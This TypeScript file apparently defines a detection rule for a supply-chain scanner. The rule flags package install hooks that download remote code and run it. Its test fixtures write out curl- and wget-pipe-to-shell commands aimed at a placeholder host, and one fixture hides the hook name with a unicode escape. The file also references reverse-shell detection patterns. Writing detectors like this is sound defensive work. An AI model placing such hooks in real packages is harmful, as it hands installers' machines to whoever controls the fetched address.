import { says, setting } from "../match.ts";
import { defineRule } from "../rule.ts";
import { FETCH_AND_RUN, HIDDEN_POWERSHELL, REVERSE_SHELL } from "../vocabulary/commands.ts";
import { INSTALL_HOOKS } from "../vocabulary/settings.ts";

export default defineRule({
  id: "install-hook-runs-fetched-code",
  category: "supply_chain",
  severity: "critical",
  confidence: "high",
  languages: ["data"],
  title: "an install hook fetches code and runs it",
  why: "Installing the package, or any package that depends on it, hands the machine to whoever controls that address.",
  fix: "Publish what is needed inside the package, and leave out the hook.",
  references: ["CWE-494", "CWE-829", "ATT&CK T1195.002", "OWASP ASI04"],
  match: [FETCH_AND_RUN, REVERSE_SHELL, HIDDEN_POWERSHELL].map((pattern) =>
    setting({ of: INSTALL_HOOKS, is: says(pattern) }),
  ),
  bad: [
    { "package.json": '{"scripts": {"postinstall": "curl -s https://a.example/i.sh | bash"}}' },
    { "package.json": '{ // tolerant\n  scripts: { "\\u0070reinstall": "wget -qO- http://a.example/x | sh", },\n}' },
  ],
  good: [
    { "package.json": '{"scripts": {"postinstall": "node ./build.js"}}' },
    { "package.json": '{"scripts": {"bootstrap": "curl -s https://a.example/i.sh | bash"}}' },
    { "notes.json": '{"scripts":{"postinstall":"curl -s https://a.example/i.sh | bash"}}' },
  ],
});
